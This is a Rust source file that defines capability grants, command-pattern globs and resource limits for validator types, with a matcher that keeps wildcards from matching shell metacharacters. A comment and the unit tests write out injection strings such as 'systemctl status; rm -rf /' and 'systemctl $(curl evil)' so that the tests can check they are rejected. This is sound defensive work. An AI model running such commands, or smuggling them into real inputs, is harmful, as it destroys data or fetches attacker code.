//! What a validator type may do (grants, with optional command patterns) and
//! how much it may use (limits). Built-in types declare both the same way
//! third-party types do; nothing is implied by being built in.

use std::fmt;
use std::str::FromStr;
use std::time::Duration;

/// One host capability a validator type can be granted.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Grant {
    /// `run-command`: run commands on the target as root.
    Exec,
    /// `write-file`: write files on the target.
    WriteFile,
    /// `read-file`: read files on the target.
    ReadFile,
    /// `read-resource`: read files from the manifest's resource roots.
    ReadResource,
    /// `set-argument`: set run arguments for later validators.
    SetArgument,
    /// `run-nested`: run nested blocks of validators (flow control).
    Nested,
}

impl Grant {
    pub const ALL: [Grant; 6] = [
        Grant::Exec,
        Grant::WriteFile,
        Grant::ReadFile,
        Grant::ReadResource,
        Grant::SetArgument,
        Grant::Nested,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            Grant::Exec => "exec",
            Grant::WriteFile => "write-file",
            Grant::ReadFile => "read-file",
            Grant::ReadResource => "read-resource",
            Grant::SetArgument => "set-argument",
            Grant::Nested => "nested",
        }
    }
}

impl fmt::Display for Grant {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for Grant {
    type Err = String;

    /// Accepts `write-file` and `write_file` alike.
    fn from_str(text: &str) -> Result<Grant, String> {
        let wanted = text.trim().replace('_', "-");
        Grant::ALL
            .into_iter()
            .find(|g| g.as_str() == wanted)
            .ok_or_else(|| {
                let known: Vec<&str> = Grant::ALL.iter().map(|g| g.as_str()).collect();
                format!("unknown grant `{text}` (known: {})", known.join(", "))
            })
    }
}

/// The grants of one validator type.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Grants {
    granted: Vec<Grant>,
    /// When non-empty, `exec` only allows commands matching one of these
    /// glob patterns (`*` any run of characters, `?` one character, neither
    /// matching a shell metacharacter: see [`glob_match`]).
    pub command_patterns: Vec<String>,
}

impl Grants {
    pub fn new(granted: impl IntoIterator<Item = Grant>) -> Self {
        let mut granted: Vec<Grant> = granted.into_iter().collect();
        granted.sort();
        granted.dedup();
        Grants {
            granted,
            command_patterns: Vec::new(),
        }
    }

    pub fn with_command_patterns(mut self, patterns: Vec<String>) -> Self {
        self.command_patterns = patterns;
        self
    }

    pub fn allows(&self, grant: Grant) -> bool {
        self.granted.contains(&grant)
    }

    pub fn iter(&self) -> impl Iterator<Item = Grant> + '_ {
        self.granted.iter().copied()
    }

    /// Whether `command` is inside the `exec` grant's patterns.
    pub fn allows_command(&self, command: &str) -> bool {
        self.command_patterns.is_empty()
            || self.command_patterns.iter().any(|p| glob_match(p, command))
    }
}

impl fmt::Display for Grants {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let names: Vec<&str> = self.granted.iter().map(|g| g.as_str()).collect();
        if names.is_empty() {
            f.write_str("none")?;
        } else {
            f.write_str(&names.join(", "))?;
        }
        if !self.command_patterns.is_empty() {
            write!(f, " (commands: {})", self.command_patterns.join(" | "))?;
        }
        Ok(())
    }
}

/// Characters a wildcard never matches. Commands run through `/bin/sh -c`,
/// so without this `systemctl *` would also allow
/// `systemctl status; rm -rf /` or `systemctl $(curl evil)`. A pattern may
/// still contain them literally.
const SHELL_METACHARACTERS: &[char] = &[
    ';', '&', '|', '$', '`', '<', '>', '(', ')', '\n', '\r', '\\',
];

/// Matches `text` against a glob with `*` and `?` (which never match a
/// shell metacharacter), iteratively (no backtracking blow-up on hostile
/// patterns).
pub fn glob_match(pattern: &str, text: &str) -> bool {
    let p: Vec<char> = pattern.chars().collect();
    let t: Vec<char> = text.chars().collect();
    let wild_ok = |c: char| !SHELL_METACHARACTERS.contains(&c);
    let (mut pi, mut ti) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while ti < t.len() {
        if pi < p.len() && ((p[pi] == '?' && wild_ok(t[ti])) || p[pi] == t[ti]) {
            pi += 1;
            ti += 1;
        } else if pi < p.len() && p[pi] == '*' {
            star = Some((pi, ti));
            pi += 1;
        } else if let Some((star_p, star_t)) = star.filter(|&(_, st)| wild_ok(t[st])) {
            pi = star_p + 1;
            ti = star_t + 1;
            star = Some((star_p, star_t + 1));
        } else {
            return false;
        }
    }
    p[pi..].iter().all(|&c| c == '*')
}

/// Hard limits on one validator run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// Wall-clock time of one run, not counting nested blocks (they have
    /// their own). Holds inside host calls: commands get the remaining time
    /// as their timeout.
    pub wall_clock: Duration,
    /// Linear memory the component may grow to.
    pub memory_bytes: usize,
    /// Bytes the component may log (and print) in one run.
    pub log_bytes: usize,
    /// Bytes one command's stdout plus stderr may hand back to the component.
    pub command_output_bytes: usize,
}

impl Limits {
    /// Generous enough for package installs on a slow emulated appliance.
    pub const BUILTIN: Limits = Limits {
        wall_clock: Duration::from_secs(3600),
        memory_bytes: 64 << 20,
        log_bytes: 1 << 20,
        command_output_bytes: 64 << 20,
    };

    /// The defaults for third-party types; a declaration may change them.
    pub const THIRD_PARTY: Limits = Limits {
        wall_clock: Duration::from_secs(600),
        memory_bytes: 64 << 20,
        log_bytes: 1 << 20,
        command_output_bytes: 16 << 20,
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn globs() {
        assert!(glob_match("systemctl *", "systemctl enable nginx"));
        assert!(!glob_match("systemctl *", "rm -rf / ; systemctl x"));
        assert!(glob_match("a?c", "abc"));
        assert!(glob_match("*", ""));
        assert!(!glob_match("a*b*c", "aXbX"));
        assert!(glob_match(&"*a".repeat(20), &"a".repeat(40)));
    }

    #[test]
    fn wildcards_do_not_smuggle_shell() {
        assert!(!glob_match("systemctl *", "systemctl status; rm -rf /"));
        assert!(!glob_match("systemctl *", "systemctl $(curl evil)"));
        assert!(!glob_match("systemctl *", "systemctl x | sh"));
        assert!(!glob_match("systemctl *", "systemctl x\nrm -rf /"));
        assert!(!glob_match("systemctl ?", "systemctl ;"));
        assert!(glob_match(
            "systemctl * || true",
            "systemctl stop nginx || true"
        ));
        assert!(glob_match("systemctl *", "systemctl enable 'my unit'"));
    }

    #[test]
    fn grants_parse_both_spellings() {
        assert_eq!("write_file".parse::<Grant>().unwrap(), Grant::WriteFile);
        assert_eq!("exec".parse::<Grant>().unwrap(), Grant::Exec);
        assert!("root".parse::<Grant>().unwrap_err().contains("known: exec"));
    }
}
